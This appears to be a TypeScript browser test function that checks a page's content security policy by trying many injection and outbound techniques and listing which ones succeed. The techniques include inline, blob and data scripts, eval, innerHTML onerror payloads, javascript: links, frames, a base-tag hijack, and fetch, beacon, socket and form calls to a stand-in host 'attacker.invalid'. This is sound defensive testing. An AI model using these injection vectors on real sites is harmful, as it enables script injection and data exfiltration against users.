interface Outcome {
  readonly count: number
  readonly succeeded: readonly string[]
  /** What stands on the screen afterwards, and where. */
  readonly shows: string
  readonly address: string
}

/** Runs inside the page: tries what injected markup or code would try, and names each attempt that had an effect. */
export async function ATTACKS(): Promise<Outcome> {
  const far = 'https://attacker.invalid'
  const succeeded: string[] = []
  let count = 0
  const add = (tag: string, set: (element: never) => void) => {
    const element = document.createElement(tag)
    set(element as never)
    document.body.append(element)
    return element
  }
  /** An attempt fails by throwing, by doing nothing, or by a rejected promise. */
  const attempt = async (name: string, act: () => unknown) => {
    count += 1
    window.attacked = undefined as never
    let reached: unknown
    try {
      reached = await Promise.race([act(), new Promise((resolve) => setTimeout(() => resolve(false), 120))])
    } catch {
      reached = false
    }
    if (reached === true || window.attacked !== undefined) succeeded.push(name)
  }
  const loads = (tag: string, set: (element: never) => void) =>
    new Promise<boolean>((resolve) => {
      const element = document.createElement(tag)
      element.addEventListener('load', () => resolve(true))
      element.addEventListener('error', () => resolve(false))
      set(element as never)
      document.body.append(element)
    })
  const code = `window.attacked='yes'`
  const blob = (type: string, text: string) => URL.createObjectURL(new Blob([text], { type }))

  await attempt('inline script', () => void add('script', (s: HTMLScriptElement) => s.append(code)))
  await attempt('inline script text', () => void add('script', (s: HTMLScriptElement) => (s.text = code)))
  await attempt('foreign script', () => loads('script', (s: HTMLScriptElement) => (s.src = `${far}/a.js`)))
  await attempt('blob script', () =>
    loads('script', (s: HTMLScriptElement) => (s.src = blob('text/javascript', code))),
  )
  await attempt('data script', () =>
    loads('script', (s: HTMLScriptElement) => (s.src = `data:text/javascript,${code}`)),
  )
  await attempt('module import', () =>
    import(/* @vite-ignore */ `data:text/javascript,${code}`).then(() => true),
  )
  // biome-ignore lint/security/noGlobalEval: the attack itself
  await attempt('eval', () => globalThis.eval(`${code},true`))
  await attempt('Function', () => new Function(`${code};return true`)())
  await attempt('timer with text', () => void setTimeout(code as never, 0))
  await attempt('innerHTML', () => {
    const element = document.body.appendChild(document.createElement('p'))
    element.innerHTML = `<img src=x onerror="${code}">`
  })
  await attempt('insertAdjacentHTML', () =>
    document.body.insertAdjacentHTML('beforeend', `<svg onload="${code}"></svg>`),
  )
  await attempt('document.write', () => document.write(`<script>${code}</script>`))
  await attempt(
    'onerror attribute',
    () =>
      void add('img', (i: HTMLImageElement) => {
        i.setAttribute('onerror', code)
        i.src = '/nothing.png'
      }),
  )
  await attempt('javascript link', () =>
    add('a', (a: HTMLAnchorElement) => (a.href = `javascript:${code}`)).click(),
  )
  await attempt('foreign picture', () => loads('img', (i: HTMLImageElement) => (i.src = `${far}/a.png`)))
  await attempt('foreign style', () =>
    loads('link', (l: HTMLLinkElement) => Object.assign(l, { rel: 'stylesheet', href: `${far}/a.css` })),
  )
  await attempt('inline style', () => {
    add('style', (s: HTMLStyleElement) => s.append('main { outline: 7px solid red }'))
    return getComputedStyle(document.querySelector('main') ?? document.body).outlineWidth === '7px'
  })
  await attempt('foreign font', () => new FontFace('far', `url(${far}/a.woff2)`).load().then(() => true))
  await attempt('foreign fetch', () => fetch(`${far}/a`, { mode: 'no-cors' }).then(() => true))
  await attempt(
    'foreign request',
    () =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest()
        request.onload = () => resolve(true)
        request.onerror = () => resolve(false)
        request.open('GET', `${far}/a`)
        request.send()
      }),
  )
  await attempt('beacon', () => void navigator.sendBeacon(`${far}/a`, 'x'))
  await attempt(
    'socket',
    () =>
      new Promise((resolve) => {
        new WebSocket('wss://attacker.invalid').onopen = () => resolve(true)
      }),
  )
  await attempt(
    'event source',
    () =>
      new Promise((resolve) => {
        new EventSource(`${far}/a`).onopen = () => resolve(true)
      }),
  )
  await attempt('foreign frame', () => {
    const frame = add('iframe', (f: HTMLIFrameElement) => (f.src = `${far}/`)) as HTMLIFrameElement
    return (
      frame.contentDocument === null &&
      new Promise((resolve) => frame.addEventListener('load', () => resolve(false)))
    )
  })
  await attempt(
    'frame of markup',
    () => void add('iframe', (f: HTMLIFrameElement) => (f.srcdoc = `<script>parent.attacked=1</script>`)),
  )
  await attempt('base', () => {
    add('base', (b: HTMLBaseElement) => (b.href = `${far}/`))
    return new URL('a', document.baseURI).origin === far
  })
  await attempt('object', () =>
    loads('object', (o: HTMLObjectElement) => (o.data = blob('text/html', `<script>${code}</script>`))),
  )
  await attempt('embed', () => loads('embed', (e: HTMLEmbedElement) => (e.src = blob('text/html', 'x'))))
  await attempt('form', () => {
    const form = add('form', (f: HTMLFormElement) => Object.assign(f, { method: 'post', action: `${far}/a` }))
    ;(form as HTMLFormElement).submit()
  })
  await attempt(
    'worker of a blob',
    () =>
      new Promise((resolve) => {
        const worker = new Worker(blob('text/javascript', 'postMessage(1)'))
        worker.onmessage = () => resolve(true)
      }),
  )
  await attempt('service worker', () => navigator.serviceWorker.register('/a.js').then(() => true))
  await attempt('another policy', () => {
    const types = (
      window as never as { trustedTypes: { createPolicy: (name: string, rules: object) => object } }
    ).trustedTypes
    return types.createPolicy('attack', { createHTML: (text: string) => text }) !== undefined
  })
  await attempt('read the host without a token', () =>
    fetch('/api/office.status', { method: 'POST', body: '{}' }).then((reply) => reply.ok),
  )
  const shows = document.querySelector('h1')?.innerText ?? ''
  return { count, succeeded, shows, address: location.href.replace(/#.*/, '') }
}
